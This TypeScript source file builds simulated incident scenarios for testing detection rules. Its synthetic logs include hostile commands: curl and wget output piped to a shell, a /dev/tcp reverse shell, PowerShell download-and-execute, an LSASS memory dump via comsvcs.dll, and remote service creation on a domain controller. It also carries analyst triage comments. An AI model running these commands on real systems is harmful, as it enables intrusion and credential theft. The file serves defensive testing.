// The attacks and mistakes of the story. `fires` is exact: story.integration.test.ts runs our rules over each chapter and compares.
import { attackers, company } from './company.ts'
import type { Person } from './company.ts'
import type { Random } from './random.ts'
import { recorderOf } from './records.ts'
import type { Source, SourceRecord } from './records.ts'

const minute = 60_000
const day = 86_400_000
const seoul = 9 * 3_600_000

export type Text = { readonly en: string; readonly ko: string }
/** What one shipper sends at once; `at` is when it arrives, in ms since the epoch. */
export type Burst = { readonly at: number; readonly source: Source; readonly records: readonly SourceRecord[] }
export type Verdict = 'true_positive' | 'benign_true_positive' | 'false_positive' | 'inconclusive' | 'duplicate' | 'test'
/** What a person does about the chapter's incident. `decide` answers the request made before it; `expire` lets it run out. */
export type Step = { readonly at: number; readonly by: Person } & (
  | { readonly do: 'take' }
  | { readonly do: 'comment'; readonly text: string }
  | { readonly do: 'request'; readonly action: 'isolate_host' | 'block_ip' | 'disable_account' | 'quarantine_file'; readonly targets: readonly string[]; readonly reason: string; readonly urgency: 'low' | 'normal' | 'high' }
  | { readonly do: 'decide'; readonly approved: boolean; readonly comment: string }
  | { readonly do: 'expire' }
  | { readonly do: 'resolve' }
  | { readonly do: 'close'; readonly verdict: Verdict }
)
export type Chapter = {
  readonly id: string
  readonly title: Text
  readonly startsAt: number
  readonly bursts: readonly Burst[]
  /** Rules of content/rules by file name, sorted. */
  readonly fires: readonly string[]
  /** Whether the feed beside this file names something in it. */
  readonly listed: boolean
  readonly steps: readonly Step[]
}

type Telling = Omit<Chapter, 'id' | 'title' | 'startsAt' | 'listed'> & { readonly listed?: boolean }

const cmd = 'C:\\Windows\\System32\\cmd.exe'
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const explorer = 'C:\\Windows\\explorer.exe'
const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
const excel = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE'
const outlook = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE'
const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64')

/** All chapters but tonight's begin at a wall clock time in Seoul, so that nights stay nights whenever the story is told. */
export function chaptersOf(now: number, random: Random): Chapter[] {
  const r = recorderOf(random)
  const midnight = Math.floor((now + seoul) / day) * day - seoul
  const chapters: Chapter[] = []
  const tell = (id: string, title: Text, startsAt: number, write: (t: (minutes: number) => number) => Telling) => {
    const telling = write((minutes) => startsAt + Math.round(minutes * minute))
    chapters.push({ id, title, startsAt, listed: false, ...telling, fires: telling.fires.toSorted() })
  }
  const ago = (days: number, clock: string) => midnight - days * day + Number(clock.slice(0, 2)) * 60 * minute + Number(clock.slice(3)) * minute

  tell('guessing', { en: 'Passwords guessed over SSH on GIT-01', ko: 'GIT-01에 대한 SSH 비밀번호 대입' }, ago(47, '03:12'), (t) => ({
    bursts: Array.from({ length: 3 }, (_, round) => ({
      at: t(round * 6 + 5), source: 'linux' as const,
      records: [
        ...Array.from({ length: 14 }, (_unused, at) => r.syslog('GIT-01', t(round * 6 + at / 5), 'sshd', `Invalid user ${random.pick(['oracle', 'ubuntu', 'test', 'deploy', 'pascal', 'nagios'])} from ${attackers.scanner} port ${random.between(40_000, 60_000)}`)),
        r.syslog('GIT-01', t(round * 6 + 4), 'sshd', `error: maximum authentication attempts exceeded for root from ${attackers.scanner} port ${random.between(40_000, 60_000)} ssh2 [preauth]`),
      ],
    })),
    fires: ['ssh_password_guessing_cut_off', 'ssh_unknown_user'],
    steps: [],
  }))

  tell('web-shell', { en: 'Web shell on WEB-01', ko: 'WEB-01 웹셸' }, ago(43, '02:41'), (t) => ({
    bursts: [
      { at: t(3), source: 'web', records: [
        r.request(t(0), attackers.webShell, 'GET /.env HTTP/1.1', 404, 'Mozilla/5.0 zgrab/0.x'),
        r.request(t(0.2), attackers.webShell, 'GET /.git/config HTTP/1.1', 404, 'Mozilla/5.0 zgrab/0.x'),
        r.request(t(2), attackers.webShell, 'POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1', 200, 'curl/8.5.0'),
      ] },
      { at: t(5), source: 'linux', records: [
        r.execute('WEB-01', t(2.1), 'www-data', '/usr/bin/dash', ['sh', '-c', `curl -fsSL http://${attackers.webShell}/i.sh | bash`]),
        r.execute('WEB-01', t(2.4), 'www-data', '/tmp/.x/kworker', ['/tmp/.x/kworker', '--daemon']),
        r.execute('WEB-01', t(4), 'www-data', '/usr/bin/bash', ['bash', '-c', `bash -i >& /dev/tcp/${attackers.webShell}/4444 0>&1`]),
        r.execute('WEB-01', t(4.6), 'www-data', '/usr/bin/cat', ['cat', '/etc/shadow'], 'no'),
      ] },
    ],
    fires: ['download_piped_to_shell', 'password_hashes_read', 'path_traversal_in_request', 'program_started_from_temporary_folder', 'reverse_shell_over_device_file', 'secret_file_requested'],
    listed: true,
    steps: [
      { at: t(9), by: 'analyst', do: 'take' },
      { at: t(12), by: 'analyst', do: 'comment', text: `${attackers.webShell}에서 CGI 경로 우회로 www-data 권한의 셸을 얻었습니다. 외부로 연결된 셸이 열려 있어 격리가 먼저입니다.` },
      { at: t(14), by: 'analyst', do: 'request', action: 'isolate_host', targets: ['WEB-01'], reason: '외부로 연결된 셸이 살아 있음', urgency: 'high' },
      { at: t(31), by: 'approver', do: 'decide', approved: true, comment: '쇼핑몰 점검 공지를 올렸습니다. 진행해 주십시오.' },
      { at: t(34), by: 'lead', do: 'comment', text: 'No connector for this host yet: the operator shut its switch port by hand at 03:14. Verified from DB-01, no connection since.' },
      { at: t(96), by: 'analyst', do: 'comment', text: '어제 백업으로 복원하고 웹 서버를 최신판으로 올렸습니다. 같은 경로 요청은 이제 404입니다.' },
      { at: t(180), by: 'analyst', do: 'resolve' },
      { at: t(1_320), by: 'lead', do: 'close', verdict: 'true_positive' },
    ],
  }))

  tell('helpdesk', { en: 'Helpdesk account becomes local administrator on WS-21', ko: 'WS-21에서 헬프데스크 계정의 관리자 그룹 추가' }, ago(39, '14:05'), (t) => ({
    bursts: [{ at: t(1), source: 'windows', records: [
      r.security('WS-21', t(0), 4732, { MemberSid: 'S-1-5-21-3669966080-2286457517-972388166-1131', MemberName: '-', TargetUserName: 'Administrators', TargetDomainName: 'Builtin', TargetSid: 'S-1-5-32-544', SubjectUserSid: 'S-1-5-21-3669966080-2286457517-972388166-1107', SubjectUserName: 'it.lee', SubjectDomainName: company.domain, SubjectLogonId: '0x10a7df' }),
    ] }],
    fires: ['member_added_to_administrators'],
    steps: [
      { at: t(18), by: 'analyst', do: 'take' },
      { at: t(25), by: 'analyst', do: 'comment', text: '변경 요청서에 있는 작업인지 확인 부탁드립니다.' },
      { at: t(51), by: 'approver', do: 'comment', text: '네, 생산 설비 교체로 오늘 하루만 필요한 권한입니다. 저녁에 회수하겠습니다.' },
      { at: t(60), by: 'analyst', do: 'resolve' },
      { at: t(61), by: 'analyst', do: 'close', verdict: 'benign_true_positive' },
    ],
  }))

  tell('backup', { en: 'Backup software thins out restore points on FS-01', ko: 'FS-01 백업 프로그램의 복원 지점 정리' }, ago(36, '01:30'), (t) => {
    const service = r.running('FS-01', 'svc-backup', 'C:\\Program Files\\NightVault\\nvagent.exe')
    return {
      bursts: [{ at: t(0.5), source: 'windows', records: [r.start(t(0), service, 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /for=D: /oldest /quiet').record] }],
      fires: ['shadow_copies_deleted'],
      steps: [
        { at: t(4), by: 'analyst', do: 'take' },
        { at: t(7), by: 'analyst', do: 'comment', text: '부모 프로세스가 서명된 백업 에이전트이고 매월 첫 주 01:30에 가장 오래된 복원 지점 하나만 지웁니다. 랜섬웨어 흔적은 없습니다.' },
        { at: t(11), by: 'analyst', do: 'resolve' },
        { at: t(12), by: 'analyst', do: 'close', verdict: 'false_positive' },
      ],
    }
  })

  tell('cloud-key', { en: 'A leaked AWS key makes itself an administrator', ko: '유출된 AWS 키의 관리자 권한 획득' }, ago(33, '04:20'), (t) => ({
    bursts: [
      { at: t(4), source: 'cloudtrail', records: [
        r.cloud(t(0), 'deploy-bot', attackers.cloud, 'sts', 'GetCallerIdentity', null, { readOnly: true }),
        r.cloud(t(1), 'deploy-bot', attackers.cloud, 'iam', 'ListUsers', null, { readOnly: true }),
        r.cloud(t(2), 'deploy-bot', attackers.cloud, 'iam', 'CreateAccessKey', { userName: 'svc-report' }, { responseElements: { accessKey: { userName: 'svc-report', status: 'Active' } } }),
      ] },
      { at: t(10), source: 'cloudtrail', records: [
        r.cloud(t(6), 'deploy-bot', attackers.cloud, 'iam', 'AttachUserPolicy', { userName: 'deploy-bot', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }),
        r.cloud(t(8), 'deploy-bot', attackers.cloud, 'cloudtrail', 'StopLogging', { name: 'saesol-main' }),
      ] },
    ],
    fires: ['access_key_created_for_other_user', 'administrator_rights_granted', 'trail_stopped'],
    listed: true,
    steps: [
      { at: t(15), by: 'lead', do: 'take' },
      { at: t(17), by: 'lead', do: 'comment', text: 'deploy-bot has never signed in from this network, and nobody deploys at four in the morning. The key was in a build log that was public for two days.' },
      { at: t(18), by: 'lead', do: 'request', action: 'disable_account', targets: [`deploy-bot@${company.awsAccount}`], reason: 'Leaked key, used to grant itself administrator rights and to stop the trail', urgency: 'high' },
      { at: t(44), by: 'approver', do: 'decide', approved: true, comment: '배포는 내일 오전까지 멈춰도 됩니다.' },
      { at: t(52), by: 'approver', do: 'comment', text: '콘솔에서 키 두 개를 폐기하고 추적을 다시 켰습니다.' },
      { at: t(140), by: 'lead', do: 'comment', text: 'Nothing was read from the buckets between 04:20 and 05:12. The new key of svc-report was never used.' },
      { at: t(200), by: 'lead', do: 'resolve' },
      { at: t(1_500), by: 'lead', do: 'close', verdict: 'true_positive' },
    ],
  }))

  tell('invoice', { en: 'Macro of a false invoice on WS-03', ko: 'WS-03의 가짜 세금계산서 매크로' }, ago(29, '09:52'), (t) => {
    const sheet = r.running('WS-03', 'yuna.choi', excel, `"${excel}" "C:\\Users\\yuna.choi\\Downloads\\tax_invoice.xlsm"`)
    const shell = r.start(t(0), sheet, powershell, 'powershell.exe -NoProfile -Command "(New-Object Net.WebClient)"')
    return {
      bursts: [{ at: t(1.5), source: 'windows', records: [
        shell.record,
        r.scriptBlock(t(0.1), shell.process, "IEX (New-Object Net.WebClient).DownloadString('http://tax-bill.example/a.ps1')"),
      ] }],
      fires: ['office_starts_shell', 'powershell_download_and_run'],
      listed: true,
      steps: [
        { at: t(6), by: 'analyst', do: 'take' },
        { at: t(10), by: 'analyst', do: 'request', action: 'quarantine_file', targets: ['WS-03:C:\\Users\\yuna.choi\\Downloads\\tax_invoice.xlsm'], reason: '매크로가 외부 스크립트를 실행하려 함', urgency: 'normal' },
        { at: t(16), by: 'approver', do: 'decide', approved: true, comment: '승인합니다.' },
        { at: t(24), by: 'analyst', do: 'comment', text: '내려받기는 프록시에서 막혔고 다음 단계는 없었습니다. 같은 메일을 받은 네 분께 안내했습니다.' },
        { at: t(70), by: 'analyst', do: 'resolve' },
        { at: t(300), by: 'analyst', do: 'close', verdict: 'true_positive' },
      ],
    }
  })

  tell('remote-tool', { en: 'Administrator works on WS-21 with PsExec', ko: '관리자의 PsExec 원격 작업' }, ago(25, '16:40'), (t) => {
    const service = r.running('WS-21', 'NT AUTHORITY\\SYSTEM', 'C:\\Windows\\PSEXESVC.exe')
    return {
      bursts: [{ at: t(1), source: 'windows', records: [
        r.security('WS-21', t(0), 5145, { SubjectUserSid: 'S-1-5-21-3669966080-2286457517-972388166-1107', SubjectUserName: 'it.lee', SubjectDomainName: company.domain, ObjectType: 'File', IpAddress: '10.20.0.10', IpPort: '50112', ShareName: '\\\\*\\IPC$', RelativeTargetName: 'svcctl', AccessMask: '0x3' }),
        r.start(t(0.1), service, 'C:\\Windows\\System32\\msiexec.exe', 'msiexec /i \\\\FS-01\\deploy\\scanner-driver.msi /qn').record,
      ] }],
      fires: ['psexec_service_runs_command', 'service_control_pipe_opened'],
      steps: [
        { at: t(33), by: 'analyst', do: 'take' },
        { at: t(41), by: 'analyst', do: 'comment', text: '전산팀의 드라이버 배포로 확인했습니다.' },
        { at: t(42), by: 'analyst', do: 'resolve' },
        { at: t(43), by: 'analyst', do: 'close', verdict: 'benign_true_positive' },
      ],
    }
  })

  tell('announced-test', { en: 'Announced penetration test against DB-01', ko: '예고된 모의 침투(DB-01)' }, ago(20, '22:15'), (t) => ({
    bursts: [
      { at: t(3), source: 'database', records: Array.from({ length: 9 }, (_, index) => r.database(t(index / 4), attackers.tester, 'postgres', 'FATAL:  password authentication failed for user "postgres"')) },
      { at: t(6), source: 'database', records: [r.database(t(5), attackers.tester, 'orders_app', "LOG:  statement: COPY probe FROM PROGRAM 'id'")] },
    ],
    fires: ['database_runs_program', 'database_superuser_guessed'],
    steps: [
      { at: t(10), by: 'lead', do: 'take' },
      { at: t(13), by: 'lead', do: 'request', action: 'block_ip', targets: [attackers.tester], reason: 'Commands run through the database from outside', urgency: 'high' },
      { at: t(22), by: 'approver', do: 'decide', approved: false, comment: '이번 주 모의 침투 업체의 주소입니다. 계획서를 첨부했습니다. 차단하지 마십시오.' },
      { at: t(40), by: 'lead', do: 'comment', text: 'Address and time match the plan. The application account may still run programs: that right is now on the list of recommendations.' },
      { at: t(55), by: 'lead', do: 'resolve' },
      { at: t(56), by: 'lead', do: 'close', verdict: 'test' },
    ],
  }))

  tell('tickets', { en: 'Service tickets collected on WS-07', ko: 'WS-07의 서비스 티켓 수집' }, ago(15, '20:18'), (t) => {
    const shell = r.running('WS-07', 'minsu.park', cmd)
    return {
      bursts: [
        { at: t(2), source: 'windows', records: [
          r.start(t(0), shell, 'C:\\Users\\minsu.park\\Downloads\\tools\\r.exe', 'r.exe kerberoast /outfile:h.txt').record,
          ...['svc-sql', 'svc-backup', 'svc-report'].map((service, index) => r.security('DC-01', t(0.2 + index / 10), 4769, {
            TargetUserName: 'minsu.park@SAESOL.EXAMPLE', TargetDomainName: 'SAESOL.EXAMPLE', ServiceName: service, TicketOptions: '0x40810000', TicketEncryptionType: '0x17', IpAddress: '::ffff:10.20.1.7', IpPort: String(random.between(50_000, 60_000)), Status: '0x0',
          })),
        ] },
      ],
      fires: ['kerberos_ticket_tool', 'service_ticket_with_rc4'],
      steps: [
        { at: t(7), by: 'analyst', do: 'take' },
        { at: t(12), by: 'analyst', do: 'request', action: 'disable_account', targets: ['WS-07\\minsu.park'], reason: '공격 도구로 서비스 계정 티켓을 모음', urgency: 'high' },
        { at: t(29), by: 'approver', do: 'decide', approved: true, comment: '본인과 통화했습니다. 계정은 우선 잠가 주십시오.' },
        { at: t(75), by: 'analyst', do: 'comment', text: '개발자가 보안 교육 자료를 따라 해 본 것으로 확인했습니다. 그래도 svc-report의 비밀번호는 여덟 자여서 세 계정 모두 변경을 요청했습니다.' },
        { at: t(240), by: 'analyst', do: 'resolve' },
        { at: t(1_400), by: 'lead', do: 'close', verdict: 'true_positive' },
      ],
    }
  })

  tell('bucket', { en: 'Bucket of product pictures opened to everybody', ko: '제품 사진 버킷의 전체 공개' }, ago(11, '11:32'), (t) => ({
    bursts: [{ at: t(4), source: 'cloudtrail', records: [
      r.cloud(t(0), 'minsu.park', '198.51.100.12', 's3', 'PutBucketAcl', { bucketName: 'saesol-pictures', AccessControlPolicy: { AccessControlList: { Grant: [{ Grantee: { 'xsi:type': 'Group', URI: 'http://acs.amazonaws.com/groups/global/AllUsers' }, Permission: 'READ' }] } } }),
    ] }],
    fires: ['bucket_made_public'],
    steps: [
      { at: t(20), by: 'lead', do: 'take' },
      { at: t(26), by: 'lead', do: 'comment', text: 'The folder orders/2026 lies in the same bucket. 214 files could be read by anybody for half an hour; the access log shows nobody but us.' },
      { at: t(38), by: 'approver', do: 'comment', text: '공개를 되돌리고 주문 파일을 다른 버킷으로 옮겼습니다.' },
      { at: t(45), by: 'lead', do: 'resolve' },
      { at: t(130), by: 'lead', do: 'close', verdict: 'true_positive' },
    ],
  }))

  tell('installer', { en: 'Installer excludes its folder from Defender on WS-21', ko: 'WS-21 설치 프로그램의 백신 예외 등록' }, ago(8, '10:11'), (t) => {
    const setup = r.running('WS-21', 'taeho.jung', 'C:\\Windows\\ccmcache\\7b\\PlantView-Setup.exe')
    return {
      bursts: [{ at: t(1), source: 'windows', records: [r.start(t(0), setup, powershell, 'powershell.exe Add-MpPreference -ExclusionPath "C:\\Program Files\\PlantView"').record] }],
      fires: ['antivirus_disabled_by_command'],
      steps: [
        { at: t(9), by: 'analyst', do: 'take' },
        { at: t(19), by: 'analyst', do: 'comment', text: '설비 감시 프로그램의 정식 설치 절차이며 제조사 문서에 나와 있습니다. 예외 규칙을 이 경로로 좁히는 것을 제안합니다.' },
        { at: t(30), by: 'analyst', do: 'resolve' },
        { at: t(31), by: 'analyst', do: 'close', verdict: 'false_positive' },
      ],
    }
  })

  tell('miner', { en: 'Miner on GIT-01', ko: 'GIT-01의 채굴 프로그램' }, ago(5, '23:47'), (t) => ({
    bursts: [{ at: t(6), source: 'linux', records: [
      r.execute('GIT-01', t(0), 'git', '/usr/bin/dash', ['sh', '-c', `wget -qO- http://${attackers.miner}/s | sh`]),
      r.execute('GIT-01', t(1), 'git', '/var/tmp/.cache/xm', ['/var/tmp/.cache/xm', '-o', `${attackers.miner}:3333`]),
      r.path('GIT-01', t(3), 'git', '/usr/bin/tee', '/etc/cron.d/.sync'),
      r.path('GIT-01', t(4), 'git', '/usr/bin/tee', '/root/.ssh/authorized_keys'),
    ] }],
    fires: ['cron_entry_created', 'download_piped_to_shell', 'program_started_from_temporary_folder', 'ssh_key_added'],
    listed: true,
    steps: [
      { at: t(21), by: 'analyst', do: 'take' },
      { at: t(27), by: 'analyst', do: 'request', action: 'isolate_host', targets: ['GIT-01'], reason: '채굴 프로그램과 지속성 확보 흔적', urgency: 'normal' },
      { at: t(290), by: 'analyst', do: 'expire' },
      { at: t(300), by: 'lead', do: 'comment', text: 'The request ran out unanswered at night. Called the duty phone at 04:50; the repository server was taken offline by hand at 05:20.' },
      { at: t(620), by: 'approver', do: 'comment', text: '야간 연락처가 예전 번호였습니다. 당직 번호를 바꿨고 서버는 새로 설치했습니다.' },
      { at: t(700), by: 'lead', do: 'resolve' },
      { at: t(1_700), by: 'lead', do: 'close', verdict: 'true_positive' },
    ],
  }))

  tell('task', { en: 'New task runs a script on FS-01', ko: 'FS-01의 새 예약 작업' }, ago(2, '18:26'), (t) => ({
    bursts: [{ at: t(2), source: 'windows', records: [
      r.security('FS-01', t(0), 4698, { SubjectUserSid: 'S-1-5-21-3669966080-2286457517-972388166-1107', SubjectUserName: 'it.lee', SubjectDomainName: company.domain, SubjectLogonId: '0xead4335', TaskName: '\\Saesol\\QuotaReport', TaskContent: '<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2"><Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-File D:\\scripts\\quota.ps1</Arguments></Exec></Actions></Task>' }),
    ] }],
    fires: ['scheduled_task_with_shell'],
    steps: [
      { at: t(50), by: 'analyst', do: 'take' },
      { at: t(58), by: 'analyst', do: 'comment', text: '스크립트 내용은 용량 집계뿐입니다. 작업을 만든 분께 확인을 요청했고 회신을 기다립니다.' },
    ],
  }))

  const tonight = now - 34 * minute
  tell('tonight', { en: 'Credentials stolen on WS-12, the domain controller next', ko: 'WS-12 자격 증명 탈취와 도메인 컨트롤러 이동 시도' }, tonight, (t) => {
    const mail = r.running('WS-12', 'jihye.kim', outlook)
    const letter = r.start(t(0), mail, word, `"${word}" /n "C:\\Users\\jihye.kim\\AppData\\Local\\Temp\\Settlement_Q4.docm"`)
    const download = encoded(`$c=New-Object Net.WebClient;IEX $c.DownloadString('http://${attackers.listedDomain}/q4')`)
    const shell = r.start(t(0.4), letter.process, powershell, `powershell.exe -NoP -W Hidden -Enc ${download}`)
    const desktop = r.running('WS-12', 'svc-backup', explorer)
    const console = r.start(t(9), desktop, cmd, 'cmd.exe /k')
    const survey = r.start(t(9.5), console.process, 'C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain')
    const dump = r.start(t(11), console.process, 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 768 C:\\Windows\\Temp\\lsass.dmp full')
    const control = r.start(t(15), console.process, 'C:\\Windows\\System32\\sc.exe', 'sc.exe \\\\DC-01 create WinUpd binPath= C:\\Windows\\Temp\\upd.exe start= auto')
    return {
      bursts: [
        { at: t(1.5), source: 'windows', records: [
          letter.record, shell.record,
          r.scriptBlock(t(0.5), shell.process, `$c=New-Object Net.WebClient;IEX $c.DownloadString('http://${attackers.listedDomain}/q4')`),
          r.question(t(0.6), shell.process, attackers.listedDomain, attackers.listedServer),
          r.connection(t(0.7), shell.process, { address: attackers.listedServer, port: 443, name: attackers.listedDomain }),
        ] },
        { at: t(12), source: 'windows', records: [
          console.record, survey.record, dump.record,
          r.memoryRead(t(11.05), dump.process, 'C:\\Windows\\System32\\lsass.exe', '0x1fffff'),
          r.fileCreated(t(11.1), dump.process, 'C:\\Windows\\Temp\\lsass.dmp'),
        ] },
        { at: t(16), source: 'windows', records: [
          r.security('DC-01', t(14.5), 5145, { SubjectUserSid: 'S-1-5-21-3669966080-2286457517-972388166-1115', SubjectUserName: 'svc-backup', SubjectDomainName: company.domain, ObjectType: 'File', IpAddress: '10.20.1.12', IpPort: '50418', ShareName: '\\\\*\\ADMIN$', ShareLocalPath: '\\??\\C:\\Windows', RelativeTargetName: 'Temp\\upd.exe', AccessMask: '0x130196' }),
          control.record,
          r.security('DC-01', t(15.1), 5145, { SubjectUserSid: 'S-1-5-21-3669966080-2286457517-972388166-1115', SubjectUserName: 'svc-backup', SubjectDomainName: company.domain, ObjectType: 'File', IpAddress: '10.20.1.12', IpPort: '50420', ShareName: '\\\\*\\IPC$', RelativeTargetName: 'svcctl', AccessMask: '0x3' }),
        ] },
      ],
      fires: ['account_listing_with_net', 'hidden_encoded_powershell', 'lsass_dump_command', 'lsass_dump_file', 'lsass_memory_read', 'office_starts_shell', 'powershell_download_and_run', 'program_written_to_admin_share', 'service_control_on_other_host', 'service_control_pipe_opened'],
      listed: true,
      steps: [
        { at: t(13), by: 'analyst', do: 'take' },
        { at: t(22), by: 'analyst', do: 'comment', text: '회계팀 PC에서 문서 매크로로 시작해 svc-backup 계정으로 LSASS 메모리를 덤프했습니다. 방금 DC-01에 서비스를 만들려 했고, 성공 여부를 확인하고 있습니다.' },
        { at: t(25), by: 'lead', do: 'comment', text: 'svc-backup signs in to every server. Treat its password as lost, and isolate WS-12 before anything else.' },
        { at: t(27), by: 'analyst', do: 'request', action: 'isolate_host', targets: ['WS-12'], reason: 'LSASS 덤프 후 도메인 컨트롤러로 이동 시도', urgency: 'high' },
        { at: t(28), by: 'analyst', do: 'request', action: 'disable_account', targets: ['WS-12\\svc-backup'], reason: '자격 증명이 유출된 서비스 계정', urgency: 'high' },
      ],
    }
  })
  return chapters
}
